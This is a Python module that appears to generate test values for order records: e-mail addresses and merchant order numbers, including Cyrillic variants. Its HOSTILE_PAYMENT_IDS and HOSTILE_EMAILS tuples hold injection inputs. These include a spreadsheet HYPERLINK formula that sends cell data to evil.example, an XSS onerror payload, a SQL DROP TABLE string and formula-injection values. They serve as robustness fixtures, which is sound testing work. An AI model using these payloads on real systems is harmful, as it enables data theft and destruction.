"""The texts of an order: who paid, and what the merchant called it. Kept as numbers, written when asked for.

A row holds a style and a number for each of the two texts, so that a million orders stay small.
"""

from __future__ import annotations

from collections.abc import Sequence

PLAIN, UPPER, TITLE, SPACED, CYRILLIC, EMPTY, NULL, ABSENT, SPECIAL = range(9)
"""The styles. SPECIAL means that the number is a place in the list of special texts."""

_GIVEN = ("anna", "ivan", "olga", "petr", "maria", "oleg", "vera", "egor", "nina", "gleb", "lidia", "roman")
_FAMILY = ("ivanova", "petrov", "kim", "sokolov", "orlova", "volkov", "belova", "titov", "lebedeva", "zuev")
_DOMAINS = ("mail.ru", "yandex.ru", "gmail.com", "example.com", "bk.ru", "rambler.ru", "shop.example")
_CYRILLIC = ("анна.иванова", "пётр.сидоров", "ольга.ким", "фёдор.щукин", "юлия.цой", "илья.жуков")

HOSTILE_PAYMENT_IDS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Order")',
    "<img src=x onerror=alert(1)>",
    "$\\frac{$",
    "Ж" * 200,
    "+79111231212",
    "-1+1|cmd",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'quoted",
    '"; DROP TABLE orders; --',
    "Заказ №7, «Ромашка»; 50 %",
    "line\nbreak",
    "_underscore_ {brace} %d",
    "\u202eright to left",
    "000123",
    "1e5",
    "Order #1",
)
HOSTILE_EMAILS = (
    "=1+1@x.example",
    "<b>bold</b>@x.example",
    '"comma, quote"@x.example',
    "+7 900 000-00-00",
    "не почта",
    "a@b@c.example",
)


def email_text(style: int, number: int, specials: Sequence[str]) -> str | None:
    """Write an e-mail address; None for NULL and ABSENT.

    Examples
    --------
    >>> email_text(PLAIN, 25, ()), email_text(UPPER, 25, ()), email_text(EMPTY, 25, ())
    ('ivan.kim25@bk.ru', 'IVAN.KIM25@BK.RU', '')
    """
    if style == SPECIAL:
        return specials[number]
    if style in (EMPTY, NULL, ABSENT):
        return "" if style == EMPTY else None
    if number % 12 == 7:
        address = f"{_CYRILLIC[number // 12 % 6]}{number}@почта.рф"
    else:
        address = f"{_GIVEN[number % 12]}.{_FAMILY[number // 12 % 10]}{number}@{_DOMAINS[number % 7]}"
    if style == UPPER:
        return address.upper()
    if style == TITLE:
        return address.title()
    return f" {address} " if style == SPACED else address


def payment_text(style: int, number: int, specials: Sequence[str]) -> str | None:
    """Write the merchant's own order number; None for NULL.

    Examples
    --------
    >>> payment_text(PLAIN, 17854, ()), payment_text(CYRILLIC, 7, ())
    ('Order #17854', 'Заказ №7')
    """
    if style == SPECIAL:
        return specials[number]
    if style == CYRILLIC:
        return f"Заказ №{number}"
    if style in (EMPTY, NULL, ABSENT):
        return "" if style == EMPTY else None
    return f"Order #{number}"
